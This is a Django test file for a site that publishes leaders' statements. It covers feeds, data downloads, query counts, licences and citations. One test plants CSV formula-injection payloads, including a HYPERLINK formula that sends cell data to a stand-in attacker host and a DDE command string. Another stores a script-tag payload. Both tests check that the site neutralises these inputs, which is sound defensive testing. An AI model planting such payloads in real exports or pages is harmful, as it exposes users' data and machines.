import csv
import datetime
import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from quotes.models import Statement
from tests.factories import CitationFactory, LeaderFactory, StatementFactory, TopicFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def record():
    putin = LeaderFactory(name="Vladimir Putin", slug="vladimir-putin", country="RU")
    published = CitationFactory(
        statement__speaker=putin,
        statement__text="We will have to retaliate.",
        statement__relayed_by="Kremlin readout",
        source__publisher="Reuters",
    ).statement
    other = CitationFactory(statement__text="It was a good call.").statement
    draft = StatementFactory(speaker=putin, text="A draft nobody may see.", status="draft")
    return {"published": published, "other": other, "draft": draft, "putin": putin}


def rss_titles(content: bytes) -> list[str]:
    return [item.findtext("title") for item in ET.fromstring(content).iter("item")]


def test_the_rss_feed_lists_published_statements_only(client, record):
    response = client.get("/feeds/latest.rss")
    assert response.status_code == 200
    titles = rss_titles(response.content)
    assert "Vladimir Putin: “We will have to retaliate.”" in titles
    assert len(titles) == 2
    assert not any("draft" in title for title in titles)


def test_a_feed_item_links_to_the_statement_and_names_its_sources(client, record):
    item = next(ET.fromstring(client.get("/feeds/latest.rss").content).iter("item"))
    statement = Statement.objects.get(text__in=[item.findtext("title").split("“")[1][:-1]])
    assert item.findtext("link").endswith(statement.get_absolute_url())


def test_the_atom_feed_is_atom(client, record):
    response = client.get("/feeds/latest.atom")
    assert response["Content-Type"].startswith("application/atom+xml")
    assert b"We will have to retaliate." in response.content


def test_a_leaders_feed_holds_only_that_leaders_statements(client, record):
    titles = rss_titles(client.get("/leaders/vladimir-putin/feed.rss").content)
    assert titles == ["Vladimir Putin: “We will have to retaliate.”"]


def test_an_unknown_leaders_feed_is_404(client, record):
    assert client.get("/leaders/nobody/feed.rss").status_code == 404


@pytest.mark.parametrize(
    "url, queries", [("/feeds/latest.rss", 5), ("/leaders/vladimir-putin/feed.rss", 6)]
)
def test_a_feed_runs_the_same_few_queries_for_few_and_many_items(client, record, url, queries):
    # The record's version, (the leader,) the items' ids, then (nothing being cached here) the
    # items with their speakers, the citations with their sources, the corrections: a feed
    # shows no offices or topics, so it fetches none.
    def queries_for_feed():
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured)

    assert queries_for_feed() == queries
    for _ in range(12):
        CitationFactory(statement__speaker=record["putin"])
    assert len(rss_titles(client.get(url).content)) > 10
    assert queries_for_feed() == queries


ITEM_PARTS = ('FROM "quotes_citation"', 'FROM "quotes_correction"')


def feed_and_item_queries(client, url):
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
    assert response.status_code == 200
    parts = [q["sql"] for q in captured if any(part in q["sql"] for part in ITEM_PARTS)]
    return response.content.decode(), parts


def test_a_feeds_items_are_made_once_until_their_statements_change(client, record, page_cache):
    """Each item's fields are kept per state of its statement, whichever feed shows it."""
    rss, parts = feed_and_item_queries(client, "/feeds/latest.rss")
    assert len(parts) == 2  # the citations and the corrections of the items
    # Another feed of the same statements (a page not cached yet): the items as they were kept.
    atom, parts = feed_and_item_queries(client, "/feeds/latest.atom")
    assert parts == []
    for shown in ("We will have to retaliate.", "Vladimir Putin", "Sources: Reuters."):
        assert shown in rss and shown in atom
    leaders, parts = feed_and_item_queries(client, "/leaders/vladimir-putin/feed.rss")
    assert parts == [] and "Relayed by Kremlin readout." in leaders

    # A correction moves its statement on: that item alone is made again, and shows it.
    record["published"].corrections.create(note="The quotation was shortened.")
    rss, parts = feed_and_item_queries(client, "/feeds/latest.rss")
    assert "The quotation was shortened." in rss
    assert len(parts) == 2 and all(f"({record['published'].pk})" in sql for sql in parts)

    # A leader's new name is every item's business ("reference" scope).
    record["putin"].name = "V. V. Putin"
    record["putin"].save()
    rss, parts = feed_and_item_queries(client, "/feeds/latest.rss")
    assert "V. V. Putin: “We will have to retaliate.”" in rss
    assert len(parts) == 2


def test_the_csv_download_has_a_row_per_published_statement(client, record):
    response = client.get("/data/statements.csv")
    assert response["Content-Disposition"].endswith('filename="verbatim-statements.csv"')
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {row["words"] for row in rows} == {"We will have to retaliate.", "It was a good call."}
    putin_row = next(row for row in rows if row["speaker"] == "Vladimir Putin")
    assert putin_row["relayed_by"] == "Kremlin readout"
    assert putin_row["source_publishers"] == "Reuters"
    assert putin_row["url"].endswith(record["published"].get_absolute_url())


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_kept_as_text(client, start):
    statement = CitationFactory(
        statement__text='=HYPERLINK("https://evil.example/?"&A1,"click")',
        statement__relayed_by=f"{start}cmd|' /C calc'!A0",
    ).statement
    response = client.get("/data/statements.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + statement.text in cells
    assert f"'{start}cmd|' /C calc'!A0" in cells
    # The JSON download keeps the words exactly: only spreadsheets need the apostrophe.
    data = json.loads(b"".join(client.get("/data/statements.json").streaming_content))
    assert [item["words"] for item in data["statements"]] == [statement.text]


def test_the_json_download_takes_the_lists_filters(client, record):
    response = client.get("/data/statements.json", {"speaker": "vladimir-putin"})
    data = json.loads(b"".join(response.streaming_content))["statements"]
    assert [item["words"] for item in data] == ["We will have to retaliate."]
    assert data[0]["source_urls"] == [record["published"].citations.get().source.url]


def test_a_download_with_a_bad_filter_explains_it(client, record):
    response = client.get("/data/statements.csv", {"date_from": "2025-13-45"})
    assert response.status_code == 400
    assert "date_from" in response.content.decode()


def test_a_download_in_an_unknown_format_is_404(client, record):
    assert client.get("/data/statements.xlsx").status_code == 404


def test_the_download_runs_the_same_queries_for_few_and_many_rows(
    client, record, django_assert_max_num_queries
):
    for _ in range(20):
        CitationFactory()
    with django_assert_max_num_queries(8):
        b"".join(client.get("/data/statements.json").streaming_content)


def test_the_open_data_page_links_every_download_and_feed(client, record):
    page = client.get("/data/").content.decode()
    for address in (
        "/data/statements.csv",
        "/data/statements.jsonl",
        "/data/statements.json",
        "/feeds/latest.rss",
    ):
        assert address in page


def read_json_lines(response) -> list[dict]:
    return [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]


def test_the_json_lines_download_has_an_object_per_line(client, record):
    response = client.get("/data/statements.jsonl")
    assert response["Content-Type"].startswith("application/jsonl")
    assert response["Content-Disposition"].endswith('filename="verbatim-statements.jsonl"')
    rows = read_json_lines(response)
    assert [row["words"] for row in rows] == ["It was a good call.", "We will have to retaliate."]
    putin = rows[1]
    assert putin["speaker_slug"] == "vladimir-putin" and putin["speaker_country"] == "RU"
    assert putin["relayed_by"] == "Kremlin readout"
    assert putin["source_publishers"] == ["Reuters"]
    assert putin["url"].endswith(record["published"].get_absolute_url())


def test_a_download_reads_chunk_after_chunk_without_losing_or_repeating_a_row(client, monkeypatch):
    monkeypatch.setattr("quotes.public.open_data.CHUNK_SIZE", 3)
    day = datetime.date(2025, 6, 4)
    # Several on one day: the keyset must order them by id within the day.
    made = [
        CitationFactory(statement__date_said=day - datetime.timedelta(days=n // 3)).statement
        for n in range(10)
    ]
    made[0].topics.add(TopicFactory(name="Trade"))
    rows = read_json_lines(client.get("/data/statements.jsonl"))
    expected = sorted(made, key=lambda s: (s.date_said, s.pk), reverse=True)
    assert [row["id"] for row in rows] == [s.pk for s in expected]
    assert next(row for row in rows if row["id"] == made[0].pk)["topics"] == ["Trade"]
    assert all(
        row["url"].endswith(s.get_absolute_url()) for row, s in zip(rows, expected, strict=True)
    )


def test_a_searched_download_computes_nothing_only_a_page_shows(client, record):
    with CaptureQueriesContext(connection) as queries:
        rows = read_json_lines(client.get("/data/statements.jsonl", {"q": "retaliate"}))
    assert [row["words"] for row in rows] == ["We will have to retaliate."]
    sql = " ".join(query["sql"] for query in queries.captured_queries).lower()
    assert "ts_headline" not in sql and "ts_rank" not in sql


# ----- The licence and how to cite ------------------------------------------------------------

LICENCE_URL = "https://creativecommons.org/licenses/by/4.0/"


@pytest.mark.parametrize("data_format", ["csv", "json", "jsonl"])
def test_every_download_names_its_licence_in_a_link_header(client, record, data_format):
    response = client.get(f"/data/statements.{data_format}", {"speaker": "vladimir-putin"})
    assert response.status_code == 200
    assert response["Link"] == f'<{LICENCE_URL}>; rel="license"'


def test_the_json_download_opens_with_the_licence_and_a_citation(client, record, settings):
    settings.SITE_URL = "https://verbatim.example"
    data = json.loads(b"".join(client.get("/data/statements.json").streaming_content))
    assert data["licence"] == "CC BY 4.0"
    assert data["licence_url"] == LICENCE_URL
    assert "CC BY-SA 4.0" in data["notice"] and "world-leaders-current" in data["notice"]
    today = timezone.localdate()
    assert data["citation"] == (
        f"Verbatim ({today.year}). A sourced record of what world leaders say [data set]. "
        f"https://verbatim.example/data/ (accessed {today.day} {today:%B %Y}). "
        "Licence: CC BY 4.0."
    )
    assert len(data["statements"]) == 2


def test_the_csv_keeps_its_columns_and_the_json_lines_one_statement_a_line(client, record):
    from quotes.public.open_data import COLUMNS

    lines = b"".join(client.get("/data/statements.csv").streaming_content).decode().splitlines()
    assert next(csv.reader(lines)) == COLUMNS
    assert len(lines) == 3
    rows = read_json_lines(client.get("/data/statements.jsonl"))
    assert all("words" in row for row in rows) and len(rows) == 2


def test_the_open_data_page_states_the_licence_and_how_to_cite(client, record, settings):
    settings.SITE_URL = "https://verbatim.example"
    page = client.get("/data/").content.decode()
    assert f'<a href="{LICENCE_URL}" rel="license">' in page
    assert "CC BY 4.0" in page
    # The leaders directory's CC BY-SA parts, credited.
    assert "https://creativecommons.org/licenses/by-sa/4.0/" in page
    for source in ("Wikidata", "List of state leaders in 2022", "world-leaders-current"):
        assert source in page
    today = timezone.localdate()
    assert f"https://verbatim.example/data/ (accessed {today.day} {today:%B %Y})" in page
    assert "Cite this statement" in page


def test_how_we_work_states_the_same_licence(client, record):
    how = client.get("/how-we-work/").content.decode()
    data = client.get("/data/").content.decode()
    section = how.split('id="licence"', 1)[1].split("</section>", 1)[0]
    licence_text = data.split('id="licence"', 1)[1].split("</section>", 1)[0]
    # The very paragraphs of the open data page, and a way to its citation.
    for paragraph in licence_text.split("<p>")[1:]:
        assert paragraph.split("</p>")[0] in section
    assert "/data/#cite" in section


def test_a_statements_page_offers_a_plain_text_citation(client, record, settings):
    settings.SITE_URL = "https://verbatim.example"
    statement = record["published"]
    page = client.get(statement.get_absolute_url()).content.decode()
    assert "Cite this statement" in page
    today = timezone.localdate()
    citation = (
        f"Vladimir Putin, “We will have to retaliate.” ({statement.date_said_display}). "
        f"Verbatim, https://verbatim.example{statement.get_absolute_url()} "
        f"(accessed {today.day} {today:%B %Y}). Licence: CC BY 4.0."
    )
    assert f'<p class="citation">{citation}</p>' in page


def test_a_citation_shows_hostile_words_as_text(client):
    statement = CitationFactory(statement__text='<script>alert(1)</script> & "so"').statement
    page = client.get(statement.get_absolute_url()).content.decode()
    cited = page.split('<p class="citation">', 1)[1].split("</p>", 1)[0]
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;so&quot;" in cited


def test_each_feed_carries_the_licence(client, record):
    rss = ET.fromstring(client.get("/feeds/latest.rss").content)
    assert LICENCE_URL in rss.find("channel").findtext("copyright")
    for path in ("/leaders/vladimir-putin/feed.atom", "/corrections/feed.atom"):
        atom = ET.fromstring(client.get(path).content)
        assert LICENCE_URL in atom.findtext("{http://www.w3.org/2005/Atom}rights")


def test_a_search_downloads_as_it_is_listed(client, record):
    rows = read_json_lines(client.get("/data/statements.jsonl", {"q": "good call"}))
    assert [row["words"] for row in rows] == ["It was a good call."]
    page = client.get("/quotes/", {"q": "good call"}).content.decode()
    assert "/data/statements.jsonl?q=good+call" in page
